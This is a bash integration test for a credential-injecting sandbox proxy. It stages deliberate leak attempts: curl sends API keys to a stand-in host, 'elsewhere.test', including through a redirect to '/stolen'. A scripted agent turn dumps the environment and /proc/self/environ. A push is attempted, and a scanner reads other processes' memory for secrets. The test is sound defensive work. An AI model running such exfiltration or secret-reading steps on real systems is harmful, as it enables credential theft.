#!/bin/bash
# The clients that keys are for: curl as OpenAI's are used, git, gh and the real Claude Code CLI
# each get their answers with a placeholder, and the hosts get the keys. Then every place where a
# key could have been left is searched: arguments, environments, memory, files, records, output.
# timeout: 560
# shellcheck source=tests/lib/int.sh
. "$(dirname "$0")/../lib/int.sh"
# shellcheck source=tests/lib/tls.sh
. "$ROOT/tests/lib/tls.sh"
# shellcheck source=tests/lib/claude.sh
. "$ROOT/tests/lib/claude.sh"
need_sandbox
for tool in curl git python3 openssl; do
	command -v $tool >/dev/null || skip "$tool is not installed"
done

cd "$WORK" || exit 1
make_root
make_host host api.openai.com api.github.com github.com api.anthropic.com elsewhere.test

# What stands behind the names: files for git, and answers for gh and curl. Nothing without a key.
git init -q --bare repo.git
git init -q source
git -C source commit -q --allow-empty -m "first"
git -C source push -q ../repo.git HEAD:refs/heads/main
git -C repo.git symbolic-ref HEAD refs/heads/main
git -C repo.git update-server-info
cat >backend.py <<'PY'
import http.server, json, os

class Handler(http.server.SimpleHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def say(self, status, data, kind="application/json", fields={}):
        self.send_response(status)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(data)))
        for k, v in fields.items():
            self.send_header(k, v)
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(data)

    def do_GET(self):
        if not self.headers.get("Authorization"):
            return self.say(401, b"{}", fields={"WWW-Authenticate": 'Basic realm="x"'})
        if self.path == "/user":
            return self.say(200, json.dumps({"login": "octo-agent"}).encode())
        if self.path == "/moved":
            return self.say(302, b"", fields={"Location": "https://elsewhere.test/stolen"})
        if self.path.startswith("/repo.git/") and os.path.isfile("." + self.path.split("?")[0]):
            with open("." + self.path.split("?")[0], "rb") as f:
                return self.say(200, f.read(), "text/plain")
        self.say(404, b"{}")

    def do_POST(self):
        body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
        if not self.headers.get("Authorization"):
            return self.say(401, b"{}")
        if self.path == "/graphql":
            return self.say(200, json.dumps({"data": {"viewer": {"login": "octo-agent"}}}).encode())
        self.say(200, json.dumps({"object": "response", "got": len(body)}).encode())

    def log_message(self, *args):
        pass

http.server.ThreadingHTTPServer.request_queue_size = 100
server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
print(server.server_address[1], flush=True)
server.serve_forever()
PY
serve_tls backend.py port.backend
backend=$port

have_claude=''
if (need_claude) >"$WORK/why" 2>&1; then
	rm -rf "$HOME/.local"	# made by the first asking, in a shell of its own
	need_claude
	serve <<-END
		{"turns": [{"text": "Looking.", "tools": [{"name": "Bash", "input": {"command": "env; cat /proc/self/environ"}}]},
		  {"text": "All done."}]}
	END
	have_claude=1
else
	echo "without Claude Code: $(tail -n 1 "$WORK/why")"
fi
serve_tls "$ROOT/tests/lib/tls_front.py" port.front host.pem host.key "$WORK/said" api.openai.com="$backend" \
	api.github.com="$backend" github.com="$backend" elsewhere.test="$backend" api.anthropic.com="$(cat "$WORK/port" 2>/dev/null || echo 1)"
front=$port

keys=(sk-proj-REALOPENAIKEY0123456789 ghp_REALGITHUBTOKEN0123456789 sk-ant-api03-REALANTHROPICKEY0123456789)
printf '%s\n' "${keys[0]}" >"$WORK/openai.key"
printf '%s\n' "${keys[1]}" >"$WORK/github.key"
printf '%s\n' "${keys[2]}" >"$WORK/anthropic.key"
chmod 600 "$WORK"/*.key
cat >config.json <<JSON
{ "allowedDomains": ["api.openai.com", "api.github.com", "github.com", "api.anthropic.com", "elsewhere.test"],
  "credentials": [
    { "name": "OPENAI_API_KEY", "provider": "openai", "from": {"file": "$WORK/openai.key"} },
    { "name": "GH_TOKEN", "provider": "github", "from": {"command": ["cat", "$WORK/github.key"]} },
    { "name": "ANTHROPIC_API_KEY", "provider": "anthropic", "from": {"file": "$WORK/anthropic.key"} } ],
  "tlsTerminate": {"extraCaCertPaths": ["$WORK/root.pem"], "hosts": ["elsewhere.test"]},
  "parentProxy": {"url": "http://127.0.0.1:$front"} }
JSON
chmod 600 config.json
export AGATE_CONFIG=$WORK/config.json
mkdir -p dir
cd dir || exit 1

# inside STATUS OPTIONS... -- COMMAND...
inside() {
	local want=$1
	shift
	: >"$WORK/said"
	RUN_SECONDS=150 run "$want" "$AGATE" run "$@"
}
clean() {
	local key
	for key in "${keys[@]}"; do
		silent "$WORK/out" "$key"
		silent "$WORK/err" "$key"
	done
}

# OpenAI's form, and what comes back when it is tried elsewhere.
inside 0 -- bash -c "env
	curl -sS --max-time 20 https://api.openai.com/v1/responses -H \"Authorization: Bearer \$OPENAI_API_KEY\" -d '{\"input\": \"x\"}'
	curl -sS --max-time 20 https://elsewhere.test/ -H \"Authorization: Bearer \$OPENAI_API_KEY\"
	curl -sS --max-time 20 -L --location-trusted https://api.github.com/moved -H \"Authorization: Bearer \$GH_TOKEN\"
	curl -sS --max-time 20 https://api.openai.com/v1/echo -H 'Authorization: Bearer mine' -d \"in a body \$OPENAI_API_KEY\""
clean
says "$WORK/out" '^OPENAI_API_KEY=sk-proj-[A-Za-z0-9]{156}$'
says "$WORK/out" '^GH_TOKEN=ghp_[A-Za-z0-9]{36}$'
says "$WORK/out" '"object": "response"'
says "$WORK/said" "^[Aa]uthorization: Bearer ${keys[0]}"
says "$WORK/said" "^[Aa]uthorization: Bearer ${keys[1]}"
silent "$WORK/said" "in a body sk-proj-REAL"
says "$WORK/out" "the credential 'OPENAI_API_KEY', which is for another host"
says "$WORK/out" "the credential 'GH_TOKEN', which is for another host"
refused network-outbound elsewhere.test:443
sed -n '/^## elsewhere/,/^## /p' "$WORK/said" >"$WORK/elsewhere"
silent "$WORK/elsewhere" 'REAL'

# git, which asks for nothing and is given the token; and may not push there.
inside 0 -- bash -c "git clone -q https://github.com/repo.git got && git -C got log --oneline
	curl -sS --max-time 20 -d x https://github.com/repo.git/git-receive-pack"
clean
says "$WORK/out" 'first$'
says "$WORK/said" "^[Aa]uthorization: Basic $(printf 'x-access-token:%s' "${keys[1]}" | base64 -w 0)"
says "$WORK/out" "request rule denies it: 'POST /\*\*/git-receive-pack'"
if grep -q 'POST .*git-receive-pack' "$WORK/said"; then fail "a push left"; fi

# gh
if command -v gh >/dev/null; then
	inside 0 -- gh api user
	clean
	says "$WORK/out" 'octo-agent'
	says "$WORK/said" "^[Aa]uthorization: token ${keys[1]}"
else
	echo "without gh: it is not installed"
fi

# Claude Code: the tools it runs see the placeholder alone.
if [ -n "$have_claude" ]; then
	inside 0 --agent claude --json -- claude -p "look" --output-format stream-json --verbose --allowedTools Bash
	clean
	says "$WORK/out" 'All done'
	says "$WORK/said" "^[Xx]-[Aa]pi-[Kk]ey: ${keys[2]}|^[Aa]uthorization: Bearer ${keys[2]}"
fi

# While a run is on: who has a key? Its own helper, in pages that nobody can read; no other process.
cat >"$WORK/search.py" <<'PY'
"""Every process of this user (of all, for root): arguments, environment, and memory where it can be read."""
import os, re, sys

keys = [k.encode() for k in sys.argv[1:]]
bad = 0
for pid in filter(str.isdigit, os.listdir("/proc")):
    if int(pid) in (os.getpid(), os.getppid()):
        continue
    try:
        cmd = open(f"/proc/{pid}/cmdline", "rb").read()
        env = open(f"/proc/{pid}/environ", "rb").read()
    except OSError:
        cmd = env = b""
    words = cmd.split(b"\0")
    if any(k in cmd or k in env for k in keys):
        print("BAD: arguments or environment of", pid, cmd)
        bad = 1
    # Only agate's own: any other is this test's, which wrote the keys.
    if not words[0].endswith((b"agate", b"agate-init", b"sleep-inside")) or b"egress" in words[1:2]:
        continue
    try:
        maps = open(f"/proc/{pid}/maps").read().splitlines()
        mem = open(f"/proc/{pid}/mem", "rb", 0)
    except OSError:
        continue
    for line in maps:
        m = re.match(r"([0-9a-f]+)-([0-9a-f]+) (r\S*) \S+ \S+ \S+\s*(.*)", line)
        if not m or m[4].startswith(("[vvar", "[vsys")):
            continue
        start, end = int(m[1], 16), int(m[2], 16)
        try:
            mem.seek(start)
            data = mem.read(min(end - start, 64 << 20))
        except (OSError, ValueError, OverflowError):
            continue
        for k in keys:
            if k in data:
                print("BAD: memory of", pid, cmd[:60], line)
                bad = 1
sys.exit(bad)
PY
rm -f started stop
inside 0 --workspace in-place -- bash -c "curl -sS --max-time 20 https://api.github.com/user -H \"Authorization: token \$GH_TOKEN\"
	touch started; for i in \$(seq 400); do [ ! -e stop ] || break; sleep 0.1; done" &
waiting=$!
at_end "touch '$PWD/stop'"
within 30 test -e started || fail "the run did not start: $(cat "$WORK/err")"
python3 "$WORK/search.py" "${keys[@]}" >"$WORK/found" 2>&1 || fail "$(cat "$WORK/found")"
helper=$(pgrep -f "^[^ ]*agate egress" | head -n 1)
if [ -n "$helper" ]; then
	says "/proc/$helper/limits" '^Max core file size +0 +0 '
	[ "$(id -u)" = 0 ] || [ ! -r "/proc/$helper/environ" ] || fail "the helper's memory can be read by its user"
fi
touch stop
wait $waiting || fail "the run that waited failed"
clean

# What is left when it is over.
for key in "${keys[@]}"; do
	if grep -r -l -a -e "$key" "$AGATE_STATE_DIR" "$WORK/dir" /dev/shm 2>/dev/null | grep .; then
		fail "a key was left in a file"
	fi
	for command in "violations --json" "runs --json"; do
		# shellcheck disable=SC2086 # two words
		timeout 20 "$AGATE" $command >"$WORK/out" 2>&1
		silent "$WORK/out" "$key"
	done
done
exit 0
